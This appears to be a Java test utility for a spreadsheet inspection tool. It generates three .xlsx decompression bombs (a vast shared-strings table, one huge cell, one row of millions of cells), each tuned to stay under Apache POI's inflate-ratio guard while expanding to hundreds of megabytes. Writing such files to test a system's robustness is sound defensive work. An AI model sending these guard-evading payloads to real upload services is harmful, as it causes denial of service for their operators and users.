package lotgate.inspection;

import java.io.IOException;
import java.io.OutputStream;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;

/**
 * Crafted .xlsx zip bombs that stay under POI's inflate-ratio guard (each part compresses less than a hundredfold,
 * by a counter in every repeat) yet expand to hundreds of megabytes: a shared-strings table, one huge cell, one
 * row of millions of cells. {@code main(folder)} writes them, to try them on any build.
 */
public final class Bombs {
    private Bombs() {
    }

    public static void main(String[] args) throws IOException {
        Path folder = Path.of(args[0]);
        Files.createDirectories(folder);
        sharedStrings(folder.resolve("bomb-strings.xlsx"));
        hugeCell(folder.resolve("bomb-cell.xlsx"));
        wideRow(folder.resolve("bomb-row.xlsx"));
    }

    private static final String MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    private static final String HEADER = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>unit</t></is></c>"
            + "<c r=\"B1\" t=\"inlineStr\"><is><t>result</t></is></c></row>";

    /** Writes a small two-sheet-free workbook package with the given sheet and shared strings parts. */
    private interface Part {
        void write(Writer out) throws IOException;
    }

    private static void workbook(Path file, Part sheet, Part strings) throws IOException {
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
            zip.setLevel(Deflater.BEST_SPEED);
            entry(zip, "[Content_Types].xml", out -> out.write("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types"
                    + " xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\""
                    + " ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default"
                    + " Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/xl/workbook.xml\""
                    + " ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
                    + "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-"
                    + "officedocument.spreadsheetml.worksheet+xml\"/><Override PartName=\"/xl/sharedStrings.xml\""
                    + " ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml\"/>"
                    + "</Types>"));
            entry(zip, "_rels/.rels", out -> out.write("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships"
                    + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\""
                    + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\""
                    + " Target=\"xl/workbook.xml\"/></Relationships>"));
            entry(zip, "xl/workbook.xml", out -> out.write("<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook xmlns=\""
                    + MAIN + "\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>"
                    + "<sheet name=\"Sample\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"));
            entry(zip, "xl/_rels/workbook.xml.rels", out -> out.write("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                    + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                    + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                    + "relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"rId2\""
                    + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings\""
                    + " Target=\"sharedStrings.xml\"/></Relationships>"));
            entry(zip, "xl/worksheets/sheet1.xml", out -> {
                out.write("<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"" + MAIN + "\"><sheetData>");
                sheet.write(out);
                out.write("</sheetData></worksheet>");
            });
            entry(zip, "xl/sharedStrings.xml", out -> {
                out.write("<?xml version=\"1.0\" encoding=\"UTF-8\"?><sst xmlns=\"" + MAIN + "\">");
                strings.write(out);
                out.write("</sst>");
            });
        }
    }

    private static void entry(ZipOutputStream zip, String name, Part part) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        Writer out = new java.io.BufferedWriter(new java.io.OutputStreamWriter(new NoClose(zip), StandardCharsets.UTF_8),
                1 << 16);
        part.write(out);
        out.flush();
        zip.closeEntry();
    }

    /** 2.5 million distinct shared strings of about 90 characters: some 230 MB of text. */
    static void sharedStrings(Path file) throws IOException {
        workbook(file, out -> out.write(HEADER + "<row r=\"2\"><c r=\"A2\" t=\"s\"><v>0</v></c>"
                + "<c r=\"B2\" t=\"inlineStr\"><is><t>pass</t></is></c></row>"), out -> {
                    for (int i = 0; i < 2_500_000; i++) {
                        out.write("<si><t>invented unit note, checked at the receiving dock " + Integer.toHexString(
                                i * 0x9E3779B1) + " " + i + "</t></si>");
                    }
                });
    }

    /** One inline cell of some 150 million characters. */
    static void hugeCell(Path file) throws IOException {
        workbook(file, out -> {
            out.write(HEADER + "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>");
            for (int i = 0; i < 3_000_000; i++) {
                out.write("invented note " + Integer.toHexString(i * 0x9E3779B1) + " " + i + " dock ");
            }
            out.write("</t></is></c><c r=\"B2\" t=\"inlineStr\"><is><t>pass</t></is></c></row>");
        }, out -> {
        });
    }

    /** One row of 6 million numeric cells without cell references. */
    static void wideRow(Path file) throws IOException {
        workbook(file, out -> {
            out.write(HEADER + "<row r=\"2\">");
            for (int i = 0; i < 6_000_000; i++) {
                out.write("<c><v>" + (i * 7919L % 1_000_003) + "</v></c>");
            }
            out.write("</row>");
        }, out -> {
        });
    }

    /** Compressed size over expanded size of each part, for checking the bombs stay under POI's guard. */
    static double lowestRatio(Path file) throws IOException {
        double lowest = 1;
        try (ZipFile zip = new ZipFile(file.toFile())) {
            for (var e = zip.entries(); e.hasMoreElements();) {
                ZipEntry entry = e.nextElement();
                if (entry.getSize() > 1 << 20) {
                    lowest = Math.min(lowest, (double) entry.getCompressedSize() / entry.getSize());
                }
            }
        }
        return lowest;
    }

    private static final class NoClose extends java.io.FilterOutputStream {
        NoClose(OutputStream out) {
            super(out);
        }

        @Override
        public void write(byte[] b, int off, int len) throws IOException {
            out.write(b, off, len);
        }

        @Override
        public void close() {
        }
    }
}
